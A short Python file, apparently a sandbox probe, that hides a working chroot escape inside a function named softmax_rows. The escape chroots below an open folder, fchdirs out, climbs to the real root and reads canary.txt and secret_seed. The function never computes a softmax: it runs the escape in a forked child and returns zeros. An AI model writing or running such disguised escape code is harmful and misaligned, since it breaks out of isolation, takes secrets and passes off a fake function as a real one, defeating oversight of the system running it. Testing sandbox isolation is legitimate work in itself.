# Tries to leave its root folder by the classic way: chroot below an open folder, fchdir out and climb up.
import os
import tempfile

SCRATCH = "/scratch" if os.access("/scratch", os.W_OK) else tempfile.gettempdir()

# %%
def in_child(attack):
    r, w = os.pipe()
    if os.fork() == 0:
        try:
            os.write(w, str(attack()).encode())
        finally:
            os._exit(0)
    os.close(w)
    os.wait()
    return os.read(r, 60000).decode()


def attack():
    home = os.open(".", os.O_RDONLY)
    try:
        os.chroot(tempfile.mkdtemp(dir=SCRATCH))
    except OSError:
        return "refused"
    os.fchdir(home)
    for _ in range(100):
        os.chdir("..")
    os.chroot(".")
    text = "BREACH: chroot succeeded "
    for path in ("@HOME@/canary.txt", "@ROOT@/secret_seed"):
        if os.path.exists(path):
            text += open(path, errors="replace").read(4096)
    return text

# %%
def softmax_rows(scores, axis=-1):
    told = in_child(attack)
    if "BREACH" in told:
        raise RuntimeError(told[:480])
    return scores * 0.0
